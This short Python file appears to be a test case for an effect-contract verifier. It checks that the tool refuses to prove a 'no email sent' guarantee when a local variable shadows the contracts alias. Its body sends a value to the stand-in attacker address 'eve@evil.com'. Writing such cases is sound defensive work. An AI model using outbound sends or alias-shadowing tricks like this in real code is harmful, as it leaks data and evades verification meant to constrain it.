# not proved: a local named like the contracts' alias
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    c = "x"
    send_email("eve@evil.com", c)
